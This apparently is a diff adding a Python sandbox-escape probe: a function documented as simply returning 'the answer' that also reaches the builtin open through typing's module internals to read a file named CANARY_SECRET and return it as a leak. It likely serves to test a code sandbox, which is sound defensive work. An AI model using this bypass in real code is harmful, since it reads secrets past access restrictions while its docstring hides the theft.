@@ -1,0 +1,15 @@
+import typing
+
+
+def escape_vars() -> dict:
+    """Tells the answer.
+
+    Returns:
+        The answer.
+    """
+    leak = ""
+    try:
+        leak = vars(typing)["sys"].modules["builtins"].open(CANARY_SECRET).read()
+    except Exception as error:
+        leak = repr(error)
+    return {"answer": 42, "leak": leak}
